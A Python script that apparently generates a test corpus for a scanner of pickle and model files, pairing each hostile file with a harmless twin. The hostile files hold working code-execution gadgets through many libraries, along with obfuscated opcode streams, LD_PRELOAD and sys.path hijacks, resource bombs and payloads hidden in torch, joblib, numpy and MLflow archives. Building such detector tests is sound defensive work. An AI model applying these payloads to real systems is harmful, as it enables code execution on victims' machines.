"""Pickles: functions that nobody lists, streams by hand, containers, files of libraries."""
import bz2, collections, datetime, decimal, functools, gzip, io, lzma, operator, pickle, pickletools, struct, types, zlib
from base import G, GONE, HOST, SAY, Call, Storage, Torch, add, checkpoint, dumps, estimator, floats, h5, joblib_dump, js, legacy, obj, op, pair, tarred, torch_zip, weights, zipped

CODE = "import os; os.system('echo jingwei')"

# Functions of libraries. technique → (case, function, arguments, container)
LIBRARY = {
    "interpreters": [("before-3-13", "_xxsubinterpreters:run_string", (Call("_xxsubinterpreters:create"), CODE), "p4"), ("since-3-13", "_interpreters:exec", (0, CODE), "joblib")],
    "bare-spawn": [("fork-exec", "_posixsubprocess:fork_exec", ([b"/bin/sh", b"-c", SAY.encode()], [b"/bin/sh"], False, (), None, None, -1, -1, -1, -1, -1, -1, 3, 4, False, False, -1, None, None, None, -1, None, False), "p2"), ("windows", "_winapi:CreateProcess", (None, SAY, None, None, False, 0, None, None, None), "torch")],
    "worker-start": [("prepare", "multiprocessing.spawn:prepare", ({"init_main_from_path": GONE + ".py"},), "p5"), ("loky-fork", "joblib.externals.loky.backend.fork_exec:fork_exec", (["/bin/sh", "-c", SAY], []), "joblib-z")],
    "entry-points": [("entry-point", "importlib.metadata:EntryPoint.load", (Call("importlib.metadata:EntryPoint", "x", "jingwei_plugin:main", "models"),), "p4"), ("sax-parser", "xml.sax:make_parser", (["jingwei_plugin"],), "torch")],
    "optional-imports": [("pandas", "pandas.compat._optional:import_optional_dependency", ("jingwei_plugin",), "p5"), ("transformers", "transformers.exporters.utils:import_dotted_path", ("jingwei_plugin.main",), "torch")],
    "plot-backend": [("pandas", "pandas.plotting._core:_load_backend", ("jingwei_plugin",), "npy")],
    "log-config": [("file", "logging.config:fileConfig", (Call("io:StringIO", "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=__import__('os').system('echo jingwei')\nargs=()\n"),), "p4"), ("dict", "logging.config:dictConfig", ({"version": 1, "handlers": {"h": {"()": "os.system", "command": SAY}}},), "torch")],
    "code-strings": [("numpy-measure", "numpy.testing:measure", (CODE,), "npz"), ("torch-unlift", "torch.fx.graph_module:_forward_from_src", (CODE + "\ndef forward(self): pass\n", {}), "torch")],
    "fx-module": [("reduce", "torch.fx.graph_module:reduce_graph_module", ({"_code": CODE + "\ndef forward(self, x): return x\n", "_graphmodule_cls_name": "GraphModule"}, CODE), "torch")],
    "test-helpers": [("transformers", "transformers.testing_utils:run_command", (["/bin/sh", "-c", SAY],), "torch"), ("sklearn", "sklearn.utils._testing:assert_run_python_script_without_output", (CODE,), "joblib")],
    "small-runners": [("fastcore", "fastcore.xtras:run", (SAY,), "joblib"), ("matplotlib", "matplotlib.cbook:_check_and_log_subprocess", (["/bin/sh", "-c", SAY], Call("logging:getLogger", "m")), "p4")],
    "packaging": [("sandbox", "setuptools.sandbox:run_setup", (GONE + "/setup.py", ["install"]), "p4"), ("pip", "pip._internal.utils.subprocess:call_subprocess", (["/bin/sh", "-c", SAY],), "p2")],
    "config-frameworks": [("mmengine", "mmengine.config:Config.fromfile", (GONE + ".py",), "torch"), ("yacs", "yacs.config:load_cfg", (CODE,), "p4")],
    "instantiate": [("lightning", "lightning.pytorch.cli:instantiate_class", ((), {"class_path": "os.system", "init_args": {"command": SAY}}), "torch"), ("gluonts", "gluonts.core.serde._base:decode", ({"__kind__": "instance", "class": "os.system", "args": [SAY]},), "joblib")],
    "shared-libraries": [("torch-classes", "torch._classes:_Classes.load_library", (None, GONE + ".so"), "torch"), ("llvm", "llvmlite.binding:load_library_permanently", (GONE + ".so",), "joblib")],
    "compile-and-load": [("pyximport", "pyximport.pyximport:load_module", ("jingwei", GONE + ".pyx"), "p4"), ("inline-torch", "torch.utils.cpp_extension:load_inline", ("jingwei", ["int f(){return 0;}"]), "torch")],
    "formulas": [("patsy", "patsy.highlevel:dmatrix", ("__import__('os').system('echo jingwei')", {"x": [1.0]}), "joblib"), ("image-math", "PIL.ImageMath:unsafe_eval", ("__import__('os').system('echo jingwei')",), "p4")],
    "profiles-and-traces": [("tracemalloc", "tracemalloc:Snapshot.load", (GONE,), "p4")],
    "any-filesystem": [("fsspec", "fsspec.core:open_files", (HOST + "/*.bin",), "joblib"), ("pyarrow", "pyarrow.fs:FileSystem.from_uri", ("s3://example.invalid/jingwei",), "p4")],
    "writers-of-archives": [("gzip", "gzip:open", (GONE, "wb"), "p4")],
    "editing-line": [("history", "readline:write_history_file", (GONE,), "p4")],
    "log-sinks": [("http", "logging.handlers:HTTPHandler", ("example.invalid", "/jingwei"), "p5")],
    "array-readers": [("source", "numpy.lib._datasource:open", (HOST + "/x.npy",), "npy"), ("memmap", "numpy:memmap", (GONE, "uint8", "w+", 0, (4,)), "joblib")],
    "fetchers": [("sklearn", "sklearn.datasets._base:fetch_file", (HOST,), "joblib"), ("pandas", "pandas.io.common:urlopen", (HOST,), "p4")],
    "other-unpicklers": [("distributed", "distributed.protocol.pickle:loads", (b"cos\nsystem\n(S'echo jingwei'\ntR.",), "p4"), ("forking", "multiprocessing.reduction:ForkingPickler.loads", (b"cos\nsystem\n(S'echo jingwei'\ntR.",), "torch")],
    "text-libraries": [("nltk", "nltk.data:load", ("file:" + GONE + ".pickle",), "p4"), ("spacy", "spacy.util:import_file", ("jingwei", GONE + ".py"), "joblib")],
    "ends-the-reader": [("exit", "posix:_exit", (0,), "p2"), ("sleep", "time:sleep", (10**9,), "torch")],
    "by-way-of-a-library": [("sklearn", ("sklearn.datasets._base", "os.system"), (SAY,), "hand"), ("torch", ("torch.serialization", "os.system"), (SAY,), "hand-torch")],
}
SAFE = [lambda: datetime.datetime(2026, 7, 1, 9, 30), lambda: decimal.Decimal("0.25"), lambda: collections.OrderedDict(a=1), lambda: complex(1, 2), lambda: slice(0, 4, 2), lambda: bytearray(b"bias"), lambda: datetime.timedelta(3), lambda: {"train"}]


def card(x, k): return {"name": f"model-{k}", "classes": ["no", "yes"], "created": x, "scores": [0.5 + k / 100, 0.25]}


def npy(value, k=0):
    import numpy
    out, array = io.BytesIO(), numpy.empty(2, object)
    array[0], array[1] = value, k
    numpy.save(out, array, allow_pickle=True)
    return out.getvalue()


def npz(members):
    import numpy
    return zipped([(n + ".npy", v if isinstance(v, bytes) else plain(v)) for n, v in members.items()])


def plain(array):
    import numpy
    out = io.BytesIO()
    numpy.save(out, array)
    return out.getvalue()


def contained(how, value, k):
    import numpy
    if how[0] == "p": return {"model.pkl": dumps(card(value, k), int(how[1]))}
    if how == "torch": return {"pytorch_model.bin": checkpoint(value, k)}
    if how == "legacy": return {"model.pth": legacy({"state_dict": weights(k)[0], "extra": value}, weights(k)[1])}
    if how == "joblib": return {"model.joblib": joblib_dump({"model": estimator(k), "meta": value})}
    if how == "joblib-z": return {"model.joblib": joblib_dump({"coef": numpy.arange(4. + k), "meta": value}, ("zlib", 3))}
    if how == "npy": return {"labels.npy": npy(value, k)}
    if how == "npz": return {"features.npz": npz({"x": numpy.arange(6. + k), "labels": npy(value, k)})}


def call(module, name, *args):
    """A call through STACK_GLOBAL, by hand."""
    return op(module, name, b"\x93") + b"(" + b"".join(op(a) if isinstance(a, str) else a for a in args) + b"tR"


k = 0
for technique, rows in LIBRARY.items():
    for case, function, arguments, how in rows:
        k += 1
        if how.startswith("hand"):
            make = lambda body: b"\x80\x04" + op(b"}(", "name", f"model-{k}", "created", body, b"u.")
            files = lambda body: {"pytorch_model.bin": torch_zip(None, weights(k)[1], pickled=make(body))} if how == "hand-torch" else {"model.pkl": make(body)}
            add(f"functions/{technique}/{case}", "block", "os.system by the dotted way through a library that imports os", files(call(*function, *arguments)), files(call("datetime", "timedelta", b"K\x03")))
        else:
            add(f"functions/{technique}/{case}", "block", f"unpickling calls {function.replace(':', '.')}", contained(how, Call(function, *arguments), k), contained(how, SAFE[k % len(SAFE)](), k))


# Streams by hand
def stream(name, expected, reason, hostile, twin, protocol=4, file="model.pkl"):
    add(f"streams/{name}", expected, reason, {file: bytes([128, protocol]) + hostile if protocol else hostile}, {file: bytes([128, protocol]) + twin if protocol else twin})


OS, SYSTEM = op("os"), op("system")
stream("spelled-names/escapes", "block", "protocol 0 text spells os and system with \\u escapes", b"(dp0\nVnote\np1\nV\\u006fs\np2\nV\\u0073ystem\n\x93(V" + SAY.encode() + b"\ntRs.", b"(dp0\nVnote\np1\nVdatetime\np2\nVtimedelta\n\x93(I3\ntRs.", 0)
stream("spelled-names/string-escapes", "block", "the old STRING opcode spells os with \\x escapes", b"(dp0\nS'note'\np1\nS'\\x6fs'\np2\nS'syst\\x65m'\n\x93(S'" + SAY.encode() + b"'\ntRs.", b"(dp0\nS'note'\np1\nS'datet\\x69me'\np2\nS'timed\\x65lta'\n\x93(I3\ntRs.", 0)
stream("made-names/replace", "block", "the module's name is the result of a call", op(b"}", "note") + op("builtins", "str.replace", b"\x93", b"(", "ozs", "z", "", b"tR", "system", b"\x93", b"(", SAY, b"tRs."), op(b"}(", "note", "ozs", "builtins", "system", b"u."))
stream("made-names/decode", "block", "the function's name is decoded from base64 by codecs", op(b"}", "note", "os", "_codecs", "decode", b"\x93(", b"C\x08c3lzdGVt", "base64", b"tR", b"0", "system", b"\x93(", SAY, b"tRs."), op(b"}", "note", "_codecs", "encode", b"\x93(", "caf\u00e9", "latin1", b"tRs."))
add("streams/partial-state/build", "block", "BUILD changes the function of a partial of int to os.system, then it is called", {"model.pkl": b"\x80\x04" + op("functools", "partial", b"\x93(", "builtins", "int", b"\x93tR(", "posix", "system", b"\x93(", SAY, b"t}Ntb)R.")},
    {"model.pkl": b"\x80\x04" + op("functools", "partial", b"\x93(", "builtins", "int", b"\x93tR(", "builtins", "int", b"\x93(", "7", b"t}Ntb.")})
add("streams/items-of-a-global/environ", "block", "SETITEMS on os.environ: LD_PRELOAD for the programs started later", {"model.pkl": b"\x80\x04" + op("os", "environ", b"\x93(", "LD_PRELOAD", GONE + ".so", b"u.")}, {"model.pkl": b"\x80\x04" + op("collections", "OrderedDict", b"\x93)R(", "OMP_NUM_THREADS", "4", b"u.")})
add("streams/items-of-a-global/path", "block", "APPENDS on sys.path: modules come from the attacker's folder", {"model.pkl": b"\x80\x04" + op("sys", "path", b"\x93(", GONE, b"e.")}, {"model.pkl": b"\x80\x04" + op(b"](", "/usr/share/models", b"e.")})
add("streams/items-of-a-global/modules", "block", "SETITEM on sys.modules swaps the module json for os", {"model.pkl": b"\x80\x04" + op("sys", "modules", b"\x93", "json", call("operator", "getitem", op("sys", "modules", b"\x93"), "os"), b"s.")}, {"model.pkl": b"\x80\x04" + op(b"}", "json", "os", b"s.")})
add("streams/extension-of-its-own/add", "block", "the stream registers an extension code for posix.system and then calls it by code", {"model.pkl": b"\x80\x04" + call("copyreg", "add_extension", "posix", "system", b"K\xc8") + b"0\x82\xc8(" + op(SAY) + b"tR."}, {"model.pkl": b"\x80\x04" + op(b"}", "codes", b"](K\xc8K\xc9es.")})
add("streams/consumed-iterator/deque", "block", "a map of os.system over commands, run by the deque that takes it", {"model.pkl": dumps({"queue": Call("collections:deque", Call("builtins:map", G("os:system"), [SAY]), 0)})}, {"model.pkl": dumps({"queue": collections.deque([1, 2], 4)})})
add("streams/default-factory/missing", "block", "a defaultdict whose factory is os.system with the command, called at the first missing key", {"vocab.pkl": dumps(Call("collections:defaultdict", functools.partial(G("os:system"), SAY), {"a": 1}))}, {"vocab.pkl": dumps(collections.defaultdict(int, {"a": 1}))})
add("streams/hash-bomb/tuples", "block", "a key of 64 nested pairs, each twice the one before: its hash takes 2**64 steps", {"cache.pkl": b"\x80\x04}" + b"K\x01" + b"\x94h\x00\x86" * 1 + b"".join(b"\x94h" + bytes([i]) + b"\x86" for i in range(1, 64)) + b"K\x01s."}, {"cache.pkl": b"\x80\x04}" + b"K\x01" + b"".join(b"\x94h" + bytes([i]) + b"\x86" for i in range(3)) + b"K\x01s."})
add("streams/hash-bomb/frozenset", "block", "a set of nested tuples doubles at each level", {"cache.pkl": b"\x80\x04(" + b"K\x02" + b"".join(b"\x94h" + bytes([i]) + b"\x86" for i in range(60)) + b"\x91."}, {"cache.pkl": b"\x80\x04(" + b"K\x02K\x03\x86K\x04\x91."})
add("streams/lying-size/bytearray", "block", "BYTEARRAY8 says 1 TiB, which the reader takes before it reads", {"state.pkl": b"\x80\x05}" + op("buffer") + b"\x96" + struct.pack("<Q", 1 << 40) + b"abcds."}, {"state.pkl": b"\x80\x05}" + op("buffer") + b"\x96" + struct.pack("<Q", 4) + b"abcds."})
add("streams/lying-size/memo", "block", "a memo index of two thousand million makes the reader's table 16 GiB and more", {"state.pkl": b"\x80\x02}r" + struct.pack("<I", 0x7FFFFFFF) + b"U\x01aK\x01s."}, {"state.pkl": b"\x80\x02}r" + struct.pack("<I", 3) + b"U\x01aK\x01s."})
add("streams/number-bomb/power", "block", "a number of a thousand million digits is computed", {"state.pkl": dumps({"scale": Call("operator:pow", 10, 10**9)})}, {"state.pkl": dumps({"scale": 10**30})})
add("streams/number-bomb/regex", "block", "a pattern that backtracks without end is matched while loading", {"state.pkl": dumps({"token": Call("re:match", "(a+)+$", "a" * 60 + "!")})}, {"state.pkl": dumps({"token": "(a+)$"})})
MAP = op("builtins", "map", b"\x93(", "os", "system", b"\x93](", SAY, b"et")
add("streams/made-without-a-call/newobj", "block", "NEWOBJ makes a map of os.system, NEWOBJ of tuple runs it: no REDUCE at all", {"model.pkl": b"\x80\x04" + op("builtins", "tuple", b"\x93", MAP, b"\x81\x85\x81.")}, {"model.pkl": b"\x80\x04" + op("builtins", "tuple", b"\x93](", SAY[5:], b"e\x85\x81.")})
add("streams/made-without-a-call/copyreg", "block", "the same through copyreg.__newobj__", {"model.pkl": b"\x80\x02" + op("copyreg", "__newobj__", b"\x93(", "builtins", "list", b"\x93tR0", "copyreg", "__newobj__", b"\x93(", "builtins", "tuple", b"\x93", "copyreg", "__newobj__", b"\x93(", "builtins", "map", b"\x93", "os", "system", b"\x93](", SAY, b"etRtR.")}, {"model.pkl": b"\x80\x02" + op("copyreg", "_reconstructor", b"\x93(", "collections", "OrderedDict", b"\x93", "builtins", "dict", b"\x93}tR.")})
nested = dumps(Call("os:system", SAY), 0)
add("streams/packed-inside/zlib", "block", "a packed pickle is unpacked and loaded while loading", {"model.pkl": dumps({"blob": Call("_pickle:loads", Call("zlib:decompress", zlib.compress(nested)))})}, {"model.pkl": dumps({"blob": zlib.compress(b"the words of the model's card " * 4)})})
add("streams/packed-inside/characters", "block", "the code is a list of numbers made into bytes and executed", {"model.pkl": dumps({"blob": Call("builtins:exec", Call("builtins:bytes", list(CODE.encode())))})}, {"model.pkl": dumps({"blob": list(b"the words of the model's card")})})
add("streams/hidden-result/popped", "block", "the call's result is popped and an honest value is left", {"model.pkl": b"\x80\x04" + call("posix", "system", SAY) + b"0" + op(b"}(", "name", "m", b"u.")}, {"model.pkl": b"\x80\x04" + op("scratch", b"0", b"}(", "name", "m", b"u.")})


# Containers
evil, good = Call("os:system", SAY), datetime.datetime(2026, 7, 1)
def tar_old(value, where):
    """torch's oldest form: a tar of sys_info, pickle, storages and tensors."""
    place, epoch = (value if value is evil else "cpu", 1) if where == "storages" else ("cpu", value)
    storages = dumps(1, 2) + dumps(("0", place, G("torch:FloatStorage")), 2) + struct.pack("<q", 4) + floats(4)
    return {"model.pth.tar": tarred([("pickle", dumps({"epoch": epoch}, 2)), ("storages", storages), ("sys_info", dumps({"protocol_version": 1000, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)), ("tensors", dumps(0, 2))])}
pair("containers/torch-tar/storages", "block", "the storages' member of torch's tar has a pickle for each storage, one calls os.system", lambda v: tar_old(v, "storages"), evil, "cpu")
pair("containers/torch-tar/pickle", "block", "the pickle of torch's tar calls os.system", lambda v: tar_old(v, "pickle"), evil, good)
pair("containers/torch-legacy/fourth", "block", "the fourth pickle of a legacy file, behind three plain ones", lambda v: {"pytorch_model.bin": legacy({"w": weights()[0], "when": v}, weights()[1])}, evil, good)
pair("containers/torch-legacy/keys", "block", "the list of storage keys, the last pickle, calls os.system", lambda v: {"pytorch_model.bin": legacy(weights(1)[0], weights(1)[1], keys=["0", "1", "2", v] if isinstance(v, Call) else ["0", "1", "2"])}, evil, good)
def persistent(kind):
    class P(pickle.Pickler):
        def persistent_id(self, o): return ("storage", G("torch:FloatStorage"), str(o.key), kind, o.count) if isinstance(o, Storage) else None
    tensors, data = weights(2)
    return {"pytorch_model.bin": torch_zip(None, data, pickled=dumps(tensors, 2, P))}
pair("containers/torch-storage-id/location", "block", "the call hides in the persistent id of a storage, where its device should be", persistent, Call("os:system", SAY), "cpu")
def scripted(code, k=0):
    body = dumps(obj(f"__torch__:Model", training=False, k=k), 2)
    return {"model.pt": zipped([("model/data.pkl", body), ("model/code/__torch__.py", "class Model(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n  k : int\n  def forward(self: __torch__.Model,\n    x: Tensor) -> Tensor:\n" + code), ("model/constants.pkl", dumps((), 2)), ("model/version", b"3\n")])}
pair("containers/torchscript-code/from-file", "block", "TorchScript maps a file of the machine and may write it back", lambda c: scripted(c, 1), f'    y = torch.from_file("{GONE}", True, 4)\n    return torch.add(x, y)\n', "    y = torch.relu(x)\n    return torch.add(x, y)\n")
pair("containers/torchscript-code/save", "block", "TorchScript writes a file when it runs", lambda c: scripted(c, 2), f'    ops.aten.save(x, "{GONE}")\n    return x\n', "    return torch.sigmoid(x)\n")
pair("containers/torchscript-code/endless", "block", "TorchScript loops without end", lambda c: scripted(c, 3), "    _0 = True\n    while _0:\n      _0 = True\n    return x\n", "    for _0 in range(3):\n      x = torch.add(x, 1)\n    return x\n")
def packaged(source):
    return {"model.pt": zipped([("model/.data/extern_modules", b"torch\n"), ("model/.data/version", b"6\n"), ("model/.data/python_version", b"3.11\n"), ("model/net/__init__.py", source), ("model/model/model.pkl", dumps(collections.OrderedDict(scale=2), 3))])}
pair("containers/torch-package/source", "block", "torch.package runs the archive's own Python when it is imported", packaged, "import os\nos.system('echo jingwei')\n", "def scale(x):\n    return x * 2\n")
def exported(weight, library=None):
    model = {"graph_module": {"graph": {"inputs": [], "outputs": [], "nodes": [], "tensor_values": {}, "sym_int_values": {}, "sym_bool_values": {}}, "signature": {"input_specs": [], "output_specs": []}, "module_call_graph": []}, "opset_version": {"aten": 10}, "range_constraints": {}, "schema_version": {"major": 8, "minor": 1}, "verifiers": ["TRAINING"], "torch_version": "2.8.0"}
    return {"model.pt2": zipped([("model/archive_format", "pt2"), ("model/archive_version", "0"), ("model/byteorder", "little"), ("model/models/model.json", js(model)), ("model/data/weights/weight_0", torch_zip({"w": weight})), *([("model/data/aotinductor/model/c4.wrapper.so", library)] if library else []), ("model/version", b"3\n"), ("model/.data/serialization_id", b"12")])}
add("containers/torch-export/weight", "block", "a weight of a .pt2 archive is a torch file of its own, with a call", exported(evil), exported(collections.OrderedDict(a=1)))
ELF = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 0, 64, 0, 0)
add("containers/torch-export/library", "block", "a .pt2 archive brings a shared library, which AOTInductor loads", exported(collections.OrderedDict(a=2), ELF), exported(collections.OrderedDict(a=2)))
import numpy
for case, compress in (("xz", ("xz", 3)), ("lz4", ("lz4", 1))):
    pair(f"containers/joblib-codec/{case}", "block", f"joblib with {case}, the call behind an array", lambda v: {f"model.joblib.{case}": joblib_dump({"a": numpy.arange(200.), "b": v}, compress)}, evil, good)
def shards(where):
    wrapper = obj("joblib.numpy_pickle_compat:NDArrayWrapper", filename=where, subclass=numpy.ndarray, allow_mmap=True)
    return {"model.pkl": dumps({"coef": wrapper}, 2), "model.pkl_01.npy": plain(numpy.arange(4.))}
pair("containers/joblib-other-file/path", "block", "an old joblib wrapper names an array in another folder, which is opened", shards, "../../../../nonexistent/jingwei.npy", "model.pkl_01.npy")
def inner_objects(v):
    a = numpy.empty(1, object); a[0] = v
    return {"model.joblib": joblib_dump({"x": numpy.arange(3.), "objects": a, "y": numpy.arange(5.)})}
pair("containers/joblib-object-array/inner", "block", "an object array within joblib holds a pickle with a call", inner_objects, evil, "no")
pair("containers/numpy-object/third-member", "block", "only the third array of an .npz has objects", lambda v: {"data.npz": npz({"x": numpy.arange(9.), "y": numpy.arange(3), "meta": npy(v)})}, evil, good)
def npy_head(text, body=b"", version=1):
    text = text.encode() + b" " * (-(len(text) + (11 if version == 1 else 13)) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H" if version == 1 else "<I", len(text)) + text + body
add("containers/numpy-header/huge-shape", "block", "an .npy of 200 bytes says 8 TiB", {"x.npy": npy_head("{'descr': '<f8', 'fortran_order': False, 'shape': (1048576, 1048576), }", bytes(64))}, {"x.npy": npy_head("{'descr': '<f8', 'fortran_order': False, 'shape': (2, 4), }", bytes(64))})
add("containers/numpy-header/nested", "review", "a header of 200,000 brackets for the expression reader", {"x.npy": npy_head("{'descr': '<f8', 'fortran_order': False, 'shape': " + "(" * 100000 + ")" * 100000 + ", }", bytes(64), 2)}, {"x.npy": npy_head("{'descr': '<f8', 'fortran_order': False, 'shape': (8,), }", bytes(64), 2)})
def frame_file(v, squeeze, name, k):
    import pandas
    f = pandas.DataFrame({"a": [1.5, 2.0 + k], "b": ["x", "y"]})
    f.attrs["made"] = v
    return {name: squeeze(dumps(f, 5))}
pair("containers/pandas-file/xz", "block", "a packed DataFrame whose attrs hold a call", lambda v: frame_file(v, lambda d: lzma.compress(d), "frame.pkl.xz", 1), evil, good)
def zst(d):
    import zstandard
    return zstandard.ZstdCompressor().compress(d)
pair("containers/pandas-file/zstd", "block", "a packed DataFrame whose attrs hold a call", lambda v: frame_file(v, zst, "frame.pkl.zst", 3), evil, good)
pair("containers/three-deep/tar-zip-gz", "block", "a pickle in gzip in zip in tar", lambda v: {"release.tar": tarred([("README", "a model"), ("model.zip", zipped([("weights/model.pkl.gz", gzip.compress(dumps(card(v, 1)), mtime=0))]))])}, evil, good)
pair("containers/three-deep/zip-joblib-npz", "block", "an .npz with an object array within joblib within zip", lambda v: {"export.zip": zipped([("export/data.npz", npz({"a": npy(v)})), ("export/scaler.joblib", joblib_dump(estimator(0)))])}, evil, good)


# Files of libraries
import cloudpickle, dill
def by_value(body):
    space = {"__name__": "__main__"}
    exec("def predict(x):\n" + body, space)
    space["predict"].__module__ = "__main__"
    return space["predict"]
def cloud(body):
    return cloudpickle.dumps({"predict": by_value(body)}, protocol=4)
add("libraries/mlflow/python-model", "block", "MLflow's python_model.pkl holds a function by value that starts a program", {"MLmodel": "flavors:\n  python_function:\n    cloudpickle_version: 3.1.2\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    python_version: 3.11.7\nmodel_uuid: 0a1b\n", "python_model.pkl": cloud("    import os\n    return os.system('echo jingwei')\n")},
    {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    python_version: 3.11.7\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: pickle\n    sklearn_version: 1.9.1\nmodel_uuid: 0a1b\n", "model.pkl": dumps(estimator(0))})
add("libraries/dill-by-value/function", "block", "dill rebuilds a function by value that starts a program", {"model.dill": dill.dumps({"predict": by_value("    import os\n    return os.system('echo jingwei')\n")}, protocol=4, recurse=True)}, {"model.dill": dill.dumps({"model": estimator(2), "when": good}, protocol=4)})
def function_step(f):
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler
    return make_pipeline(FunctionTransformer(f, validate=False), StandardScaler())
pair("libraries/sklearn-step/transformer", "block", "a pipeline's FunctionTransformer holds os.system: predict runs what it is given", lambda f: {"pipeline.joblib": joblib_dump(function_step(f))}, G("os:system"), numpy.log1p)
def vectorizer(tokenizer):
    from sklearn.feature_extraction.text import CountVectorizer
    v = CountVectorizer(tokenizer=tokenizer, token_pattern=r"\w+")
    v.vocabulary_, v.fixed_vocabulary_, v.stop_words_ = {"a": 0, "b": 1}, False, set()
    return v
pair("libraries/sklearn-step/tokenizer", "block", "a vectorizer's tokenizer is subprocess.getoutput: each text becomes a command", lambda f: {"vectorizer.joblib": joblib_dump(vectorizer(f))}, G("subprocess:getoutput"), None)
def search(scorer):
    from sklearn.model_selection import GridSearchCV
    from sklearn.linear_model import Ridge
    return GridSearchCV(Ridge(), {"alpha": [1, 2]}, scoring=scorer)
pair("libraries/sklearn-step/scorer", "block", "the scorer of a search is a partial of os.system", lambda f: {"search.pkl": dumps(search(f))}, functools.partial(G("os:system"), SAY), "r2")
def forest(spoil):
    from sklearn.ensemble import RandomForestRegressor
    r = numpy.random.RandomState(3)
    m = RandomForestRegressor(2, max_depth=2, random_state=0).fit(r.rand(30, 3), r.rand(30))
    for e in m.estimators_:
        state = e.tree_.__getstate__()
        nodes = state["nodes"].copy()
        body = numpy.zeros((len(nodes), nodes.dtype.itemsize), "u1")
        made = body.view(nodes.dtype).reshape(-1)
        for field in nodes.dtype.names: made[field] = nodes[field]
        spoil(made)
        e.tree_.__setstate__({**state, "nodes": made})
    return m
def far(n): n["left_child"][0] = n["right_child"][0] = 500_000_000
def feature(n): n["feature"][0] = 1 << 40
pair("libraries/spoiled-trees/child", "block", "a tree of a forest has children far outside: predict reads memory that is not its own", lambda f: {"forest.joblib": joblib_dump(forest(f))}, far, lambda n: None)
pair("libraries/spoiled-trees/feature", "block", "a tree asks for a column far outside", lambda f: {"forest.pkl": dumps(forest(f))}, feature, lambda n: None)
def boosted(spoil):
    from sklearn.ensemble import HistGradientBoostingRegressor
    r = numpy.random.RandomState(4)
    m = HistGradientBoostingRegressor(max_iter=2, max_depth=2, min_samples_leaf=3, early_stopping=False, random_state=0).fit(r.rand(40, 3), r.rand(40))
    for row in m._predictors:
        for p in row:
            made = numpy.zeros(len(p.nodes), p.nodes.dtype)
            for field in p.nodes.dtype.names: made[field] = p.nodes[field]
            spoil(made); p.nodes = made
    return m
def circle(n): n["left"][0] = n["right"][0] = 0
pair("libraries/spoiled-trees/circle", "block", "a boosted tree's root is its own child: predict never ends", lambda f: {"boosted.joblib": joblib_dump(boosted(f))}, circle, lambda n: None)
def neighbours(spoil):
    from sklearn.neighbors import KDTree
    t = KDTree(numpy.random.RandomState(5).rand(12, 2), leaf_size=3)
    state = list(t.__getstate__())
    state[1] = numpy.array(state[1]); spoil(state[1])
    t.__setstate__(tuple(state))
    return t
def lost(idx): idx[:] = 1 << 40
pair("libraries/spoiled-index/kd-tree", "block", "the index of a KD tree points far outside: a query reads memory that is not its own", lambda f: {"index.pkl": dumps(neighbours(f))}, lost, lambda i: None)
booster = obj("xgboost.core:Booster", handle=bytearray(b'{L\0\0\0\0\0\0\0\x07version[#L\0\0\0\0\0\0\0\x03iiii\x03\0\0}'))
add("libraries/xgboost-wrapper/objective", "block", "an XGBClassifier's own objective is os.system, called when it is fitted on", {"xgb.pkl": dumps(obj("xgboost.sklearn:XGBClassifier", n_estimators=3, objective=functools.partial(G("os:system"), SAY), _Booster=None))}, {"xgb.pkl": dumps(obj("xgboost.sklearn:XGBClassifier", n_estimators=3, objective="binary:logistic", _Booster=None))})
store = lambda v: ({"0": "a1", "1": "b2"}, {"docs": ["first", "second"], "made": v})
pair("libraries/vector-store/faiss-index", "block", "LangChain's FAISS index.pkl beside the vectors", lambda v: {"index.pkl": dumps(store(v))}, evil, "2026-07-01")
pair("libraries/vector-store/chroma", "block", "Chroma's index_metadata.pickle", lambda v: {"chroma/7f3c/index_metadata.pickle": dumps({"dimensionality": 384, "total_elements_added": 2, "max_seq_id": None, "id_to_label": {"a": 1}, "label_to_id": {1: "a"}, "id_to_seq_id": {}, "made": v})}, evil, None)
def bm25(v): return {"bm25.pkl": dumps({"corpus_size": 2, "doc_freqs": [{"a": 1}, {"b": 2}], "idf": {"a": .1, "b": .2}, "tokenizer": v})}
pair("libraries/vector-store/bm25", "block", "a BM25 index keeps eval as its tokenizer", bm25, G("builtins:eval"), None)
def sqlite_store(v):
    import sqlite3, tempfile, os
    name = tempfile.mktemp()
    con = sqlite3.connect(name)
    con.execute("PRAGMA page_size=1024"); con.execute("CREATE TABLE cache (key TEXT, mode INTEGER, value BLOB)")
    con.execute("INSERT INTO cache VALUES ('features', 4, ?)", (dumps(card(v, 4)),)); con.commit(); con.close()
    with open(name, "rb") as f: data = f.read()
    os.remove(name)
    return {"cache.db": data}
pair("libraries/pickles-in-a-database/sqlite", "review", "a cache in SQLite holds pickles, one with a call", sqlite_store, evil, "2026-07-01")
def shelf(v):
    body = dumps(card(v, 5), 5)
    return {"features.dat": body.ljust(512, b"\0"), "features.dir": f"'model', (0, {len(body)})\n", "features.bak": f"'model', (0, {len(body)})\n"}
pair("libraries/pickles-in-a-database/shelf", "block", "a shelf (dbm.dumb) whose value calls os.system", shelf, evil, good)
def rllib(v): return {"checkpoint/rllib_checkpoint.json": js({"type": "Algorithm", "checkpoint_version": "2.1", "format": "cloudpickle", "ray_version": "2.40.0"}), "checkpoint/class_and_ctor_args.pkl": dumps({"class": v, "ctor_args_and_kwargs": ((), {})})}
pair("libraries/training-state/rllib", "block", "RLlib's checkpoint names the class to make in a pickle: it is a call", rllib, evil, None)
def random_state(v): return {"checkpoint-500/rng_state.pth": torch_zip({"python": (3, tuple(range(6)), None), "numpy": ("MT19937", [1, 2, 3], 624, 0, 0.0), "cpu": v}, {})}
pair("libraries/training-state/rng", "block", "the state of random numbers beside a checkpoint, read when training goes on", random_state, evil, None)
